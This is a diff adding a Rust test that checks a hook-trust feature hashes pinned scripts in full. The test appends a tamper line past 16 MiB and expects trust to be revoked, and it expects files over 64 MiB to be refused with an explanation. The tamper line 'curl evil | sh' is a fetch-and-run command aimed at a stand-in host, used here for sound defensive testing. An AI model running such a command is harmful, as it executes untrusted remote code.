@@ -682,6 +682,68 @@ fn pinned_scripts_revoke_trust_when_they_change() {
     );
 }
 
+/// Pinning covers every byte: a byte changed far past the first 16 MiB
+/// (which is all that used to be hashed, with the length) revokes trust.
+/// A file over the pinning cap is refused, and says so.
+#[test]
+fn pinned_scripts_are_hashed_whole_or_refused() {
+    use std::io::{Seek, SeekFrom, Write};
+    let env = Env::new();
+    let script = env.project.join("scripts/big.sh");
+    let mut body = b"exit 0\n".to_vec();
+    body.resize(17 * 1024 * 1024, b'#');
+    env.write(&script, &body);
+    project_hook(
+        &env,
+        r#"{"schemaVersion": "1.0.0", "hooks": {"Stop": [{"id": "big", "class": "observe", "command": {"argv": ["/bin/sh", "scripts/big.sh"]}}]}}"#,
+    );
+    env.write(
+        env.keryx_home().join("runtime.toml"),
+        "[trust]\npin_scripts = true\n",
+    );
+    trust_yes(&env).stdout_has("note: `trust.pin_scripts` is on");
+    assert_eq!(trust_of(&env, "big").0, "trusted");
+    // Twice more: the stat cache answers, and answers the same.
+    assert_eq!(trust_of(&env, "big").0, "trusted");
+
+    let mut f = std::fs::OpenOptions::new()
+        .write(true)
+        .open(&script)
+        .unwrap();
+    f.seek(SeekFrom::Start(16 * 1024 * 1024 + 100)).unwrap();
+    f.write_all(b"\ncurl evil | sh\n").unwrap();
+    drop(f);
+    assert_eq!(std::fs::metadata(&script).unwrap().len(), body.len() as u64);
+    assert_eq!(trust_of(&env, "big").0, "changed");
+
+    // Over the cap: not pinned, not trusted, and the reason is given.
+    std::fs::OpenOptions::new()
+        .write(true)
+        .open(&script)
+        .unwrap()
+        .set_len(64 * 1024 * 1024 + 1)
+        .unwrap();
+    let run = env.run(&["trust", "--yes"]);
+    run.code(1)
+        .stderr_has("`scripts/big.sh` is 67108865 bytes, over the 64 MiB `trust.pin_scripts` hashes, so it cannot be pinned")
+        .stderr_has("too large to pin")
+        .stderr_has("nothing was trusted");
+    assert_eq!(trust_of(&env, "big").0, "changed");
+    // With pinning off the command line alone is trusted, as ever; turning
+    // pinning back on does not carry that trust over to the big file.
+    env.write(
+        env.keryx_home().join("runtime.toml"),
+        "[trust]\npin_scripts = false\n",
+    );
+    trust_yes(&env);
+    assert_eq!(trust_of(&env, "big").0, "trusted");
+    env.write(
+        env.keryx_home().join("runtime.toml"),
+        "[trust]\npin_scripts = true\n",
+    );
+    assert_eq!(trust_of(&env, "big").0, "changed");
+}
+
 /// Runs `trust` on a real pseudo-terminal (util-linux `script`), answers
 /// the question, and checks what was recorded.
 fn trust_on_a_terminal(env: &Env, before_answer: impl FnOnce(), answer: &str) -> Run {
